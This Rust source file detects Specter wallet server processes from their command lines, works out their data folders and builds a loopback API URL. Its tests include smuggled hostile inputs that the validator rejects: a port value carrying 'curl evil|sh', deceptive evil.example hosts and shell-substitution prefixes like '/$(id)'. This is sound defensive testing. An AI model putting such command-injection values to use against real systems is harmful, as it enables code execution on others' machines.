//! Reads a command line: whether it belongs to a Specter, and where that Specter keeps its data.
//!
//! A program that only mentions Specter, such as an editor or the shell that starts it, does not count. The program
//! that the first word names decides, and for Python, the code that it is told to run.

use std::ffi::OsStr;
use std::net::{IpAddr, Ipv4Addr};
use std::os::unix::ffi::OsStrExt as _;

/// The facts in the command line of a Specter, or of a program that may run one.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct CommandLine<'a> {
    /// `--specter-data-folder`.
    folder: Option<&'a OsStr>,
    /// `--config`.
    config: Option<&'a OsStr>,
    /// The variables that `gunicorn -e` sets.
    settings: Vec<&'a [u8]>,
    /// The address to listen on: `--host`, `--port`, and for gunicorn `--bind`.
    host: Option<&'a str>,
    port: Option<&'a str>,
    bind: Option<&'a str>,
    has_tls: bool,
    /// Whether a server of web applications or another program runs the Specter. It may take settings from anywhere.
    pub(super) is_hosted: bool,
    /// Whether the user's own Python code runs the Specter. It may set any variable first.
    pub(super) is_code: bool,
    /// Whether this is certainly a Specter.
    pub(super) is_certain: bool,
}

/// The variables in a Specter's environment that tell its address.
#[derive(Debug, Default, Clone, Copy)]
pub(super) struct ServerSettings<'a> {
    /// `SPECTER_API_ACTIVE`.
    pub(super) api: Option<&'a str>,
    /// `HOST`.
    pub(super) host: Option<&'a str>,
    /// `PORT`.
    pub(super) port: Option<&'a str>,
    /// `APP_URL_PREFIX`.
    pub(super) prefix: Option<&'a str>,
}

/// Servers of web applications for Python, and Flask's own.
const HOSTS: [&[u8]; 6] = [b"gunicorn", b"flask", b"uwsgi", b"waitress-serve", b"hypercorn", b"uvicorn"];

impl<'a> CommandLine<'a> {
    /// Reads a command line. `None` if no Specter can have it.
    pub(super) fn read(arguments: &[&'a OsStr]) -> Option<Self> {
        let program = base_name(arguments.first()?.as_bytes());
        let rest = arguments.get(1..).unwrap_or_default();
        if program.starts_with(b"ld-linux") || program.starts_with(b"ld-musl") {
            let start = rest.iter().position(|word| !word.as_bytes().starts_with(b"-"))?;
            return CommandLine::read(&rest[start..]);
        }
        // Gunicorn may change its title to one long word.
        if program.starts_with(b"gunicorn:") || HOSTS.contains(&program) {
            return Some(CommandLine::hosted(arguments));
        }
        if is_specter(program) {
            return CommandLine::of_specter(rest);
        }
        if program.starts_with(b"python") || program.starts_with(b"pypy") {
            return CommandLine::of_python(rest);
        }
        None
    }

    /// `words` are the words after Python's own name.
    fn of_python(words: &[&'a OsStr]) -> Option<Self> {
        let mut index = 0;
        while let Some(word) = words.get(index).map(|word| word.as_bytes()) {
            let behind = words.get(index + 1..).unwrap_or_default();
            let is_option = word.len() > 1 && word[0] == b'-';
            if !is_option {
                return match base_name(word) {
                    name if is_specter(name) || is_module(word) => CommandLine::of_specter(behind),
                    name if HOSTS.contains(&name) => Some(CommandLine::hosted(behind)),
                    _ => Some(CommandLine::code(behind, false)),
                };
            }
            // One-letter options may be joined, with the value after the last one.
            match word.iter().position(|letter| b"mcWX".contains(letter)).filter(|_| word[1] != b'-') {
                Some(at) => {
                    let (value, behind) = match &word[at + 1..] {
                        [] => (behind.first()?.as_bytes(), behind.get(1..).unwrap_or_default()),
                        value => (value, behind),
                    };
                    match word[at] {
                        b'm' if is_module(value) => return CommandLine::of_specter(behind),
                        b'm' if HOSTS.contains(&value) => return Some(CommandLine::hosted(behind)),
                        b'c' if is_module(value) => return Some(CommandLine::code(behind, true)),
                        b'm' | b'c' => return Some(CommandLine::code(behind, false)),
                        _ => index = words.len() - behind.len(),
                    }
                }
                None => index += 1,
            }
        }
        None
    }

    /// `words` are the words after `specter`. Two of its commands start a server.
    fn of_specter(words: &[&'a OsStr]) -> Option<Self> {
        let command = words.iter().find(|word| !word.as_bytes().starts_with(b"-"))?;
        match command.as_bytes() {
            b"server" => Some(CommandLine::told(words, true)),
            b"gunicorn" => Some(CommandLine { is_hosted: true, ..CommandLine::told(words, true) }),
            _ => None,
        }
    }

    /// Python code that may run a Specter, as a debugger does, whatever its arguments are.
    fn code(words: &[&'a OsStr], is_certain: bool) -> Self {
        CommandLine { is_hosted: true, is_code: true, ..CommandLine::told(words, is_certain) }
    }

    /// The words name an application by its module and, after a colon, by what to call.
    fn hosted(words: &[&'a OsStr]) -> Self {
        let is_certain = words.iter().any(|word| is_module(word.as_bytes()) && word.as_bytes().contains(&b':'));
        CommandLine { is_hosted: true, ..CommandLine::told(words, is_certain) }
    }

    fn told(words: &[&'a OsStr], is_certain: bool) -> Self {
        // The last of several options counts. An option with an empty value counts as missing.
        let values = |name: &[u8]| -> Vec<&'a OsStr> {
            let value = |(index, word): (usize, &&'a OsStr)| match word.as_bytes().strip_prefix(name)? {
                [] => words.get(index + 1).copied(),
                [b'=', value @ ..] => Some(OsStr::from_bytes(value)),
                value if name.len() == 2 => Some(OsStr::from_bytes(value)),
                _ => None,
            };
            words.iter().enumerate().filter_map(value).collect()
        };
        let last = |names: &[&str]| {
            names.iter().flat_map(|name| values(name.as_bytes())).next_back().filter(|value| !value.is_empty())
        };
        let text = |names: &[&str]| last(names).and_then(OsStr::to_str);
        let settings = values(b"-e").into_iter().chain(values(b"--env")).map(OsStr::as_bytes);
        CommandLine {
            folder: last(&["--specter-data-folder"]),
            config: last(&["--config"]),
            settings: settings.collect(),
            host: text(&["--host"]),
            port: text(&["--port"]),
            bind: text(&["-b", "--bind"]),
            has_tls: words.iter().any(|word| *word == "--ssl") || last(&["--cert", "--certfile"]).is_some(),
            is_hosted: false,
            is_code: false,
            is_certain,
        }
    }

    /// The data folder in the command line.
    pub(super) fn folder(&self) -> Option<&'a OsStr> {
        self.folder.or(self.setting("SPECTER_DATA_FOLDER"))
    }

    /// The value of a variable that the command line sets.
    pub(super) fn setting(&self, name: &str) -> Option<&'a OsStr> {
        let settings = self.settings.iter().rev();
        let mut values = settings.filter_map(|setting| setting.strip_prefix(name.as_bytes())?.strip_prefix(b"="));
        values.next().map(OsStr::from_bytes)
    }

    /// The folders in which a Specter may keep its data if it was not told where, and whether it can be in no other
    /// place. `config` is the variable `SPECTER_CONFIG` in its environment, which wins over the option unless it is
    /// empty.
    pub(super) fn default_folders(&self, config: Option<&OsStr>) -> (&'static [&'static str], bool) {
        const OWN: &[u8] = b"cryptoadvance.specter.config.";
        let variable = self.setting("SPECTER_CONFIG").or(config).filter(|config| !config.is_empty());
        let config = variable.or(self.config).unwrap_or_default().as_bytes();
        match config.strip_prefix(OWN).unwrap_or(config) {
            // The code that a host is told to call may name a configuration, or leave it to Specter.
            b"" if self.is_hosted => (&["~/.specter", "~/.specter_dev"], false),
            b"" | b"BaseConfig" | b"ProductionConfig" => (&["~/.specter"], true),
            b"DevelopmentConfig" => (&["~/.specter_dev"], true),
            b"TestConfig" => (&["~/.specter_testing"], true),
            b"CypressTestConfig" => (&["~/.specter_cypress"], true),
            // A class of the user's own, most likely derived from one of Specter's.
            _ => (&["~/.specter", "~/.specter_dev", "~/.specter_testing", "~/.specter_cypress"], false),
        }
    }

    /// The address at which a client on this machine reaches the API. `None` if the API is off, or if the address is
    /// not certain: the user will type it into a command, and a password may be sent there.
    pub(super) fn url(&self, variables: ServerSettings<'_>) -> Option<String> {
        let is_active = variables.api.is_some_and(|value| !value.is_empty() && !value.eq_ignore_ascii_case("false"));
        let scheme = if self.has_tls { "https" } else { "http" };
        let bind = self.bind.and_then(|bind| bind.rsplit_once(':'));
        let (host, port) = match bind {
            Some((host, port)) => (Some(host), port),
            // Gunicorn's default address is not one for Specter.
            None if self.is_hosted => return None,
            None => (self.host.or(variables.host), self.port.or(variables.port).unwrap_or("25441")),
        };
        let host = loopback(host.unwrap_or_default())?;
        let port = port.parse().ok().filter(|number: &u16| *number != 0 && !port.starts_with('+'))?;
        let prefix = variables.prefix.unwrap_or_default();
        let is_path = prefix.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._~-".contains(&byte));
        let is_prefix = prefix.is_empty() || prefix.starts_with('/') && is_path;
        (is_active && is_prefix).then(|| format!("{scheme}://{host}:{port}{prefix}"))
    }
}

/// The name by which this machine reaches a server that listens on this host. `None` if the server listens elsewhere.
fn loopback(host: &str) -> Option<String> {
    if host == "localhost" {
        return Some(host.to_owned());
    }
    let address = match host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host) {
        "" => Ipv4Addr::UNSPECIFIED.into(),
        host => host.parse().ok()?,
    };
    match address {
        IpAddr::V4(address) if address.is_loopback() => Some(address.to_string()),
        IpAddr::V6(address) if address.is_loopback() => Some(format!("[{address}]")),
        address if address.is_unspecified() => Some(Ipv4Addr::LOCALHOST.to_string()),
        _ => None,
    }
}

/// Whether a program is from Specter's own packages: `specter` from PyPI, `specterd` for servers and in the desktop
/// app.
fn is_specter(program: &[u8]) -> bool {
    program == b"specter" || program.starts_with(b"specterd")
}

/// Whether a word names Specter's module, or a file of it.
fn is_module(word: &[u8]) -> bool {
    [&b"cryptoadvance.specter"[..], b"cryptoadvance/specter"]
        .iter()
        .any(|name| word.windows(name.len()).any(|part| part == *name))
}

pub(super) fn base_name(path: &[u8]) -> &[u8] {
    path.rsplit(|byte| *byte == b'/').next().unwrap_or_default()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)] // a test panics if something is wrong
mod tests {
    use super::*;

    fn read(line: &str) -> Option<CommandLine<'_>> {
        CommandLine::read(&line.split(' ').map(OsStr::new).collect::<Vec<_>>())
    }

    #[test]
    fn of_specters() {
        const DEFAULT: &[&str] = &["~/.specter"];
        const DEVELOPMENT: &[&str] = &["~/.specter_dev"];
        const EITHER: &[&str] = &["~/.specter", "~/.specter_dev"];
        for (line, folder, defaults) in [
            ("python3 -m cryptoadvance.specter server", None, DEFAULT),
            (
                "/srv/env/bin/python -u -m cryptoadvance.specter --debug server --config DevelopmentConfig",
                None,
                DEVELOPMENT,
            ),
            ("python -Im cryptoadvance.specter server", None, DEFAULT),
            ("python -X dev -Wignore -mcryptoadvance.specter server", None, DEFAULT),
            ("/usr/bin/python3.11 -m cryptoadvance.specter server --specter-data-folder /a", Some("/a"), DEFAULT),
            ("python -m cryptoadvance.specter server --specter-data-folder=/a=b --port 1", Some("/a=b"), DEFAULT),
            (
                "python -m cryptoadvance.specter server --specter-data-folder /a --specter-data-folder /b",
                Some("/b"),
                DEFAULT,
            ),
            ("python -m cryptoadvance.specter server --specter-data-folder=", None, DEFAULT),
            ("python -m cryptoadvance.specter server --specter-data-folder /a --specter-data-folder=", None, DEFAULT),
            (
                "/env/bin/python /env/bin/specter server --config=cryptoadvance.specter.config.DevelopmentConfig",
                None,
                DEVELOPMENT,
            ),
            ("python /src/specter-desktop/src/cryptoadvance/specter/__main__.py server", None, DEFAULT),
            ("/lib64/ld-linux-x86-64.so.2 /usr/bin/python3 -m cryptoadvance.specter server", None, DEFAULT),
            ("./specterd server --no-filelog", None, DEFAULT),
            ("/opt/specter/specterd-v2.1.1-x86_64-linux-gnu server", None, DEFAULT),
            ("python3 -m cryptoadvance.specter gunicorn", None, EITHER),
            ("/env/bin/python /env/bin/specter gunicorn", None, EITHER),
            ("/env/bin/python /env/bin/gunicorn -w 1 cryptoadvance.specter.server:create_and_init()", None, EITHER),
            ("python -m gunicorn cryptoadvance.specter.server:create_and_init()", None, EITHER),
            ("flask --app cryptoadvance.specter.server:create_and_init() run", None, EITHER),
        ] {
            let told = read(line).unwrap_or_else(|| panic!("{line}"));
            assert!(told.is_certain, "{line}");
            assert_eq!(told.folder, folder.map(OsStr::new), "{line}");
            assert_eq!(told.default_folders(None), (defaults, !told.is_hosted), "{line}");
        }
        let title = OsStr::new("gunicorn: master [cryptoadvance.specter.server:create_and_init()]");
        assert!(CommandLine::read(&[title]).unwrap().is_certain);
        let code = ["python", "-c", "from cryptoadvance.specter.server import *; create_and_init().run()"];
        let code = CommandLine::read(&code.map(OsStr::new)).unwrap();
        assert!(code.is_certain && code.is_code, "which may set variables of its own");
        for config in
            ["mine.TestConfig", "cryptoadvance.specter.config.Mine", "cryptoadvance.specter.mine.TestConfig", "Mine"]
        {
            let line = format!("specterd server --config {config}");
            let (folders, are_all) = read(&line).unwrap().default_folders(None);
            assert!(!are_all && folders.contains(&"~/.specter_testing"), "{config} may be derived from any");
        }
    }

    #[test]
    fn of_hosts_that_may_run_one() {
        for line in [
            "gunicorn -c settings.py",
            "/env/bin/python /env/bin/gunicorn wsgi:app",
            "gunicorn -e X=cryptoadvance.specter app:app",
            "uwsgi --ini app.ini",
            "python start_specter.py",
            "python -c import\u{A0}start",
            "python -m pdb -m cryptoadvance.specter server",
            "python supervise.py -m cryptoadvance.specter server",
            "python -m pip install cryptoadvance.specter==2.1.11",
            "python3 -m http.server",
            "python3 server",
        ] {
            assert!(read(line).is_some_and(|told| told.is_hosted && !told.is_certain), "{line}");
        }
        let told =
            read("gunicorn -e SPECTER_DATA_FOLDER=/a --env=SPECTER_DATA_FOLDER=/b cryptoadvance.specter.server:app")
                .unwrap();
        assert_eq!(told.setting("SPECTER_DATA_FOLDER"), Some(OsStr::new("/b")));
        assert_eq!(told.setting("SPECTER_CONFIG"), None);
    }

    /// These mention a Specter, or are one that keeps no users.
    #[test]
    fn of_others() {
        for line in [
            "",
            "vim cryptoadvance.specter server",
            "sh -c python3\u{A0}-m\u{A0}cryptoadvance.specter\u{A0}server",
            "tmux new -d python3 -m cryptoadvance.specter server",
            "sudo -u specter python3 -m cryptoadvance.specter server",
            "tail -f /home/specter/.specter/specter.log server",
            "python3",
            "python3 -m",
            "python3 -m cryptoadvance.specter ext gen",
            "python3 -m cryptoadvance.specter bitcoind --config server",
            "specter-token create -d server",
        ] {
            assert_eq!(read(line), None, "{line}");
        }
    }

    /// The option counts only if Specter's variable, and no other, is empty.
    #[test]
    fn the_variable_beats_the_option_for_the_configuration() {
        let gunicorn = "gunicorn -e SPECTER_CONFIG=TestConfig cryptoadvance.specter.server:app";
        let server = "specterd server --config DevelopmentConfig";
        for (line, variable, folders) in [
            (server, None, "~/.specter_dev"),
            (server, Some(""), "~/.specter_dev"),
            (server, Some("TestConfig"), "~/.specter_testing"),
            (server, Some("cryptoadvance.specter.config.ProductionConfig"), "~/.specter"),
            (gunicorn, None, "~/.specter_testing"),
            (gunicorn, Some("DevelopmentConfig"), "~/.specter_testing"),
        ] {
            let found = read(line).unwrap().default_folders(variable.map(OsStr::new));
            assert_eq!(found, (&[folders][..], true), "{line} {variable:?}");
        }
    }

    const ACTIVE: ServerSettings<'_> = ServerSettings { api: Some("True"), host: None, port: None, prefix: None };

    #[test]
    fn where_a_client_reaches_it() {
        const SERVER: &str = "python3 -m cryptoadvance.specter server";
        for (options, url) in [
            ("", Some("http://127.0.0.1:25441")),
            (" --port 80", Some("http://127.0.0.1:80")),
            (" --ssl --port=443 --host=0.0.0.0", Some("https://127.0.0.1:443")),
            (" --cert x.pem --key y.pem --host localhost", Some("https://localhost:25441")),
            (" --host ::1", Some("http://[::1]:25441")),
            (" --host :: --port 65535", Some("http://127.0.0.1:65535")),
            (" --host 127.8.9.1", Some("http://127.8.9.1:25441")),
            (" --host specter.lan", None),
            (" --host 192.168.0.7", None),
            (" --host 127.0.0.1.evil.example", None),
            (" --host 127.0.0.1@evil.example", None),
            (" --host localhost.evil.example", None),
            (" --host 2130706433", None),
            (" --port 99;\u{A0}curl\u{A0}evil|sh", None),
            (" --port 0", None),
            (" --port 65536", None),
            (" --port -1", None),
            (" --port +80", None),
            (" --port 80@evil.example", None),
        ] {
            assert_eq!(read(&format!("{SERVER}{options}")).unwrap().url(ACTIVE).as_deref(), url, "{options}");
        }
        let variables = ServerSettings { host: Some("::1"), port: Some("8000"), prefix: Some("/specter"), ..ACTIVE };
        let told = read(SERVER).unwrap();
        assert_eq!(told.url(variables).as_deref(), Some("http://[::1]:8000/specter"));
        for prefix in ["specter", "@evil.example/", "/a;id", "/$(id)", "/a b", "/a\n"] {
            assert_eq!(told.url(ServerSettings { prefix: Some(prefix), ..ACTIVE }), None, "{prefix:?}");
        }
        let gunicorn = |options: &str| {
            let line = format!("gunicorn {options} cryptoadvance.specter.server:app");
            read(&line).unwrap().url(ServerSettings { port: Some("1"), ..ACTIVE })
        };
        assert_eq!(gunicorn("-b 127.0.0.1:8000").as_deref(), Some("http://127.0.0.1:8000"));
        assert_eq!(gunicorn("-b :8000").as_deref(), Some("http://127.0.0.1:8000"));
        assert_eq!(gunicorn("--bind=[::1]:8000 --certfile x").as_deref(), Some("https://[::1]:8000"));
        for options in ["-w 1", "-b unix:/run/specter.sock", "-b specter.lan:8000", "-b [::1]"] {
            assert_eq!(gunicorn(options), None, "{options}");
        }
    }

    #[test]
    fn nobody_is_sent_to_an_api_that_is_off() {
        for (value, is_active) in [
            (None, false),
            (Some(""), false),
            (Some("false"), false),
            (Some("FALSE"), false),
            (Some("True"), true),
            (Some("0"), true),
            (Some("no"), true),
        ] {
            let url = read("specterd server").unwrap().url(ServerSettings { api: value, ..ACTIVE });
            assert_eq!(url.is_some(), is_active, "{value:?}");
        }
    }
}
